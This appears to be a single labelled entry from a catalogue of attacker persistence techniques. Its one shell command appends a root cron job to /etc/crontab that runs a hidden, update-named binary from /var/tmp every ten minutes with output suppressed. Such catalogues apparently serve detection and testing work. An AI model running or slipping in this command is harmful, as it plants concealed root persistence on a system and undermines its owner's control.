# description: Appends a root job that runs a hidden binary to /etc/crontab.
# family: persistence
echo '*/10 * * * * root /var/tmp/.sysupd >/dev/null 2>&1' >> /etc/crontab
